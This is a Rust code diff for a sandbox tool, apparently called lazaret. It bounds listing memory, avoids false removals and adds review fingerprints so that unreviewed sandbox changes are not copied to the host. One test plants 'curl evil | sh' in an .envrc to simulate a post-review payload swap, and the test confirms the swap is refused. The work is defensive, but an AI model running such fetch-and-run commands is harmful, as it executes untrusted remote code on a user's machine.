@@ -20,8 +20,37 @@ use super::matcher::{Cover, Matcher};
 
 /// Most bytes read of one file (either side).
 pub const READ_CAP: u64 = 256 << 10;
-/// Most entries of the store one listing walks.
+/// Most entries one listing visits (the store walk and both trees below
+/// each host-tool path together).
 pub const WALK_MAX: usize = 1_000_000;
+/// Most file bytes one listing reads (both sides, all rows): what it
+/// holds in memory at once stays near this.
+pub const READ_TOTAL: u64 = 64 << 20;
+
+/// What a listing may still visit and read; `spent` once either runs out.
+struct Budget {
+    entries: usize,
+    bytes: u64,
+    spent: bool,
+}
+
+impl Budget {
+    /// Counts one entry; false (and spent) past the bounds.
+    fn visit(&mut self) -> bool {
+        if self.spent || self.entries == 0 || self.bytes == 0 {
+            self.spent = true;
+            return false;
+        }
+        self.entries -= 1;
+        true
+    }
+
+    fn read(&mut self, c: &Content) {
+        if let Content::File(d, _) = c {
+            self.bytes = self.bytes.saturating_sub(d.len() as u64);
+        }
+    }
+}
 
 /// One side's entry at a path, read within the bounds.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -159,8 +188,9 @@ fn read_file(d: &OwnedFd, name: &OsStr) -> io::Result<Option<(Vec<u8>, u32)>> {
     Ok(Some((v, st.st_mode & 0o7777)))
 }
 
-/// The names in directory `rel` beneath `root` (no symlink followed).
-fn names_at(root: &OwnedFd, rel: &Path) -> Vec<std::ffi::OsString> {
+/// The names in directory `rel` beneath `root` (no symlink followed), at
+/// most `max + 1` of them (the caller's budget decides).
+fn names_at(root: &OwnedFd, rel: &Path, max: usize) -> Vec<std::ffi::OsString> {
     let dir = if rel.as_os_str().is_empty() {
         Path::new(".")
     } else {
@@ -182,6 +212,9 @@ fn names_at(root: &OwnedFd, rel: &Path) -> Vec<std::ffi::OsString> {
     while let Some(Ok(e)) = it.next() {
         let n = e.file_name().to_bytes();
         if n != b"." && n != b".." {
+            if out.len() > max {
+                break;
+            }
             out.push(OsStr::from_bytes(n).to_os_string());
         }
     }
@@ -220,8 +253,8 @@ pub struct Row {
     pub domain: Content,
 }
 
-/// What `differing` found, and whether the store walk stopped at
-/// `WALK_MAX` (then some may be missing).
+/// What `differing` found, and whether it stopped at `WALK_MAX` entries
+/// or `READ_TOTAL` bytes (then some may be missing).
 pub struct Listing {
     pub rows: Vec<Row>,
     pub truncated: bool,
@@ -233,17 +266,18 @@ pub struct Listing {
 /// means the sandbox removed them).
 pub fn differing(host: &Path, store: &Path, tools: &Matcher, seeded: &[PathBuf]) -> Listing {
     let mut tops: Vec<PathBuf> = Vec::new();
-    let mut truncated = false;
+    let mut b = Budget {
+        entries: WALK_MAX,
+        bytes: READ_TOTAL,
+        spent: false,
+    };
     let sroot = open_root(store).ok();
     let hroot = open_root(host).ok();
     if let Some(s) = &sroot {
-        let mut seen = 0usize;
         let mut stack = vec![PathBuf::new()];
         'walk: while let Some(d) = stack.pop() {
-            for n in names_at(s, &d) {
-                seen += 1;
-                if seen > WALK_MAX {
-                    truncated = true;
+            for n in names_at(s, &d, b.entries) {
+                if !b.visit() {
                     break 'walk;
                 }
                 let rel = d.join(&n);
@@ -265,14 +299,18 @@ pub fn differing(host: &Path, store: &Path, tools: &Matcher, seeded: &[PathBuf])
     tops.dedup();
     let mut rows = Vec::new();
     if let (Some(h), Some(s)) = (&hroot, &sroot) {
+        let was = Seeded::new(seeded);
         for t in &tops {
-            compare(h, s, t, seeded.iter().any(|p| t.starts_with(p)), &mut rows);
+            compare(h, s, t, &was, &mut rows, &mut b);
         }
     }
     for r in &mut rows {
         r.tool = tools.tool_of(&r.path);
     }
-    Listing { rows, truncated }
+    Listing {
+        rows,
+        truncated: b.spent,
+    }
 }
 
 fn read_kind_dir(root: &OwnedFd, rel: &Path) -> bool {
@@ -281,9 +319,44 @@ fn read_kind_dir(root: &OwnedFd, rel: &Path) -> bool {
         .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode) == rustix::fs::FileType::Directory)
 }
 
-fn compare(host: &OwnedFd, store: &OwnedFd, rel: &Path, seeded: bool, out: &mut Vec<Row>) {
+/// Which host entries the Domain once had: a path recorded itself, or
+/// (records of a directory only, from before entries were recorded one
+/// by one) below a recorded directory none of whose entries is recorded.
+struct Seeded<'a> {
+    all: std::collections::HashSet<&'a Path>,
+}
+
+impl<'a> Seeded<'a> {
+    fn new(seeded: &'a [PathBuf]) -> Seeded<'a> {
+        Seeded {
+            all: seeded.iter().map(PathBuf::as_path).collect(),
+        }
+    }
+
+    fn had(&self, rel: &Path) -> bool {
+        if self.all.contains(rel) {
+            return true;
+        }
+        let mut child = rel;
+        while let Some(up) = child.parent().filter(|p| !p.as_os_str().is_empty()) {
+            if self.all.contains(up) {
+                // Entries below `up` recorded one by one: `rel` is not one.
+                return !self.all.iter().any(|p| p.starts_with(up) && *p != up);
+            }
+            child = up;
+        }
+        false
+    }
+}
+
+fn compare(host: &OwnedFd, store: &OwnedFd, rel: &Path, seeded: &Seeded, out: &mut Vec<Row>, b: &mut Budget) {
+    if !b.visit() {
+        return;
+    }
     let h = read_at(host, rel);
+    b.read(&h);
     let s = read_at(store, rel);
+    b.read(&s);
     let row = |how, host, domain| Row {
         tool: None,
         path: rel.to_path_buf(),
@@ -294,26 +367,28 @@ fn compare(host: &OwnedFd, store: &OwnedFd, rel: &Path, seeded: bool, out: &mut 
     match (&h, &s) {
         (Content::Absent, Content::Absent) => {}
         (Content::Dir, Content::Dir) => {
-            let mut names = names_at(host, rel);
-            names.extend(names_at(store, rel));
+            let mut names = names_at(host, rel, b.entries);
+            names.extend(names_at(store, rel, b.entries));
             names.sort();
             names.dedup();
             for n in names {
-                compare(host, store, &rel.join(n), true, out);
+                compare(host, store, &rel.join(n), seeded, out, b);
             }
         }
         (Content::Absent, Content::Dir) => {
-            let names = names_at(store, rel);
+            let names = names_at(store, rel, b.entries);
             if names.is_empty() {
                 out.push(row(Difference::Added, h, s));
             }
             for n in names {
-                compare(host, store, &rel.join(n), true, out);
+                compare(host, store, &rel.join(n), seeded, out, b);
             }
         }
         (Content::Absent, _) => out.push(row(Difference::Added, h, s)),
         (_, Content::Absent) => {
-            if seeded {
+            // A host entry the Domain never had (added on the host since)
+            // is not a change of the sandbox's: `apply` would remove it.
+            if seeded.had(rel) {
                 out.push(row(Difference::Removed, h, s))
             }
         }
@@ -419,10 +494,82 @@ pub fn diff_text(rel: &Path, host: Option<&[u8]>, domain: Option<&[u8]>) -> Stri
     out
 }
 
+/// A row as reviewed: a digest of its path, how it differs and both
+/// sides as read (kind, mode, bytes). `apply` copies a row only while its
+/// fingerprint is one that `changes` or `state diff` showed, so what the
+/// sandbox changes after the review (or the developer on the host) is
+/// not copied unseen.
+pub fn fingerprint(r: &Row) -> String {
+    let mut h = openssl::sha::Sha256::new();
+    let mut part = |b: &[u8]| {
+        h.update(&(b.len() as u64).to_le_bytes());
+        h.update(b);
+    };
+    part(r.path.as_os_str().as_bytes());
+    part(r.how.word().as_bytes());
+    for c in [&r.host, &r.domain] {
+        part(c.kind().as_bytes());
+        match c {
+            Content::File(d, m) => {
+                part(&m.to_le_bytes());
+                part(d);
+            }
+            Content::Symlink(t) => part(t),
+            Content::TooLarge(n) => part(&n.to_le_bytes()),
+            _ => part(b""),
+        }
+    }
+    crate::domain::hex(&h.finish())
+}
+
+/// Adds the fingerprints of `rows` to the reviewed list `file` (kept to
+/// the last `REVIEWED_MAX`).
+pub fn record_reviewed(file: &Path, rows: &[Row]) -> io::Result<()> {
+    if rows.is_empty() {
+        return Ok(());
+    }
+    let mut all = read_reviewed_lines(file);
+    all.extend(rows.iter().map(fingerprint));
+    let skip = all.len().saturating_sub(REVIEWED_MAX);
+    let mut text = String::new();
+    for l in &all[skip..] {
+        text.push_str(l);
+        text.push('\n');
+    }
+    let tmp = file.with_extension("tmp");
+    std::fs::write(&tmp, text)?;
+    std::fs::rename(&tmp, file)
+}
+
+/// Most fingerprints the reviewed list keeps.
+const REVIEWED_MAX: usize = 100_000;
+
+fn read_reviewed_lines(file: &Path) -> Vec<String> {
+    std::fs::read_to_string(file)
+        .map(|t| t.lines().map(str::to_string).collect())
+        .unwrap_or_default()
+}
+
+/// The fingerprints `record_reviewed` kept.
+pub fn reviewed(file: &Path) -> std::collections::HashSet<String> {
+    read_reviewed_lines(file).into_iter().collect()
+}
+
+/// `apply` of a row whose fingerprint is in `seen` (shown by a review);
+/// any other is refused.
+pub fn apply_reviewed(host: &Path, r: &Row, seen: &std::collections::HashSet<String>) -> Result<(), Refused> {
+    if !seen.contains(&fingerprint(r)) {
+        return Err(Refused::NotReviewed);
+    }
+    apply(host, r)
+}
+
 /// Why `apply` left one entry alone: a variant per step. `Display` is
 /// the one line printed for it.
 #[derive(Debug)]
 pub enum Refused {
+    /// Not shown in this state by `changes` or `state diff`.
+    NotReviewed,
     /// The Domain's copy is not read as text (its one-line note).
     NotRead(String),
     /// The Domain's copy is a kind of entry that is not copied.
@@ -443,6 +590,9 @@ pub enum Refused {
 impl std::fmt::Display for Refused {
     fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
         match self {
+            Refused::NotReviewed => f.write_str(
+                "it differs from what `lazaret changes` or `lazaret state diff` last showed: review it again",
+            ),
             Refused::NotRead(why) => write!(f, "the Domain's copy is {why}"),
             Refused::Kind(k) => write!(f, "the Domain's copy is a {k}"),
             Refused::Workspace(e) => write!(f, "opening the workspace: {e}"),
@@ -624,6 +774,90 @@ mod tests {
         assert!(!ws.join("sub").exists(), "nothing made for a refused copy");
         apply(&ws, &l.rows[1]).unwrap();
         assert_eq!(std::fs::read(ws.join(".npmrc")).unwrap(), b"x\n");
+        let _ = std::fs::remove_dir_all(&d);
+    }
+
+    /// Many files under a covered directory, each within `READ_CAP`
+    /// (sparse: no disk used), are read only up to `READ_TOTAL` in all:
+    /// the listing stops and says so instead of holding them all.
+    #[test]
+    fn a_listing_holds_at_most_the_total_read_bound() {
+        let d = tmp("total");
+        let (ws, st) = (d.join("ws"), d.join("st"));
+        std::fs::create_dir_all(st.join(".vscode")).unwrap();
+        let n = (READ_TOTAL / READ_CAP) as usize + 40;
+        for i in 0..n {
+            let f = std::fs::File::create(st.join(format!(".vscode/f{i:04}.json"))).unwrap();
+            f.set_len(READ_CAP).unwrap();
+        }
+        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &[]);
+        let held: u64 = l
+            .rows
+            .iter()
+            .flat_map(|r| [&r.host, &r.domain])
+            .map(|c| match c {
+                Content::File(v, _) => v.len() as u64,
+                _ => 0,
+            })
+            .sum();
+        assert!(
+            held <= READ_TOTAL + 2 * READ_CAP,
+            "a listing held {held} bytes of file content"
+        );
+        assert!(l.truncated, "a listing that stopped early says so");
+        assert!(!l.rows.is_empty());
+        let _ = std::fs::remove_dir_all(&d);
+    }
+
+    /// The sandbox changes its copy after the developer reviewed it (or a
+    /// review never happened): apply copies nothing unseen.
+    #[test]
+    fn apply_copies_only_what_was_reviewed() {
+        let d = tmp("reviewed");
+        let (ws, st) = (d.join("ws"), d.join("st"));
+        let seen_file = d.join("reviewed");
+        std::fs::write(ws.join(".envrc"), "developer\n").unwrap();
+        std::fs::write(st.join(".envrc"), "export OK=1\n").unwrap();
+        let m = Matcher::new(&[], &[]);
+        let list = || differing(&ws, &st, &m, &[]).rows;
+        // Never reviewed: refused.
+        let r = apply_reviewed(&ws, &list()[0], &reviewed(&seen_file));
+        assert!(matches!(r, Err(Refused::NotReviewed)), "{r:?}");
+        record_reviewed(&seen_file, &list()).unwrap();
+        // Swapped after the review.
+        std::fs::write(st.join(".envrc"), "curl evil | sh # SANDBOX\n").unwrap();
+        let r = apply_reviewed(&ws, &list()[0], &reviewed(&seen_file));
+        assert!(r.unwrap_err().to_string().contains("review it again"));
+        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"developer\n");
+        // The host file changed after the review: refused too.
+        std::fs::write(st.join(".envrc"), "export OK=1\n").unwrap();
+        std::fs::write(ws.join(".envrc"), "developer 2\n").unwrap();
+        assert!(apply_reviewed(&ws, &list()[0], &reviewed(&seen_file)).is_err());
+        std::fs::write(ws.join(".envrc"), "developer\n").unwrap();
+        // As reviewed: applied.
+        apply_reviewed(&ws, &list()[0], &reviewed(&seen_file)).unwrap();
+        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"export OK=1\n");
+        let _ = std::fs::remove_dir_all(&d);
+    }
+
+    /// A file the developer adds on the host inside a copied directory is
+    /// not listed as removed (applying that would delete it); one that was
+    /// copied and then removed inside is.
+    #[test]
+    fn a_host_file_added_later_is_not_a_removal() {
+        let d = tmp("later");
+        let (ws, st) = (d.join("ws"), d.join("st"));
+        std::fs::create_dir_all(ws.join(".vscode")).unwrap();
+        std::fs::create_dir_all(st.join(".vscode")).unwrap();
+        std::fs::write(ws.join(".vscode/settings.json"), "{}\n").unwrap();
+        std::fs::write(ws.join(".vscode/launch.json"), "{}\n").unwrap();
+        let seeded: Vec<PathBuf> = [".vscode", ".vscode/settings.json"].iter().map(PathBuf::from).collect();
+        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &seeded);
+        let got: Vec<_> = l.rows.iter().map(|r| (r.path.clone(), r.how)).collect();
+        assert_eq!(got, vec![(PathBuf::from(".vscode/settings.json"), Difference::Removed)]);
+        // Records of the directory alone (older Domains): as before.
+        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &seeded[..1]);
+        assert_eq!(l.rows.len(), 2);
         let _ = std::fs::remove_dir_all(&d);
     }
 
